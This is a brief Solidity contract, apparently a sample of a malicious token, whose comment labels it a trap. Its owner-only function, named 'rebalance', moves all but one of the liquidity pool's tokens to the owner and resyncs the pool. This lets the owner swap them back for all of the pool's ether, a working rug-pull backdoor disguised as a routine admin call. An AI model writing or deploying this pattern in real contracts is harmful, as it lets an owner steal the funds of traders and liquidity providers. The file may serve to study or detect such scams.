// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IPair} from "base/IPair.sol";
import {PoolToken} from "base/PoolToken.sol";

/// Trap: the owner takes the pool's own tokens, all but one, and sells them to it for all its ether.
contract PoolDrain is PoolToken {
    constructor(string memory name_, string memory symbol_, uint256 supply) PoolToken(name_, symbol_, supply) {}

    function rebalance() external onlyOwner {
        _write(pool, owner(), balances[pool] - 1);
        IPair(pool).sync();
    }
}
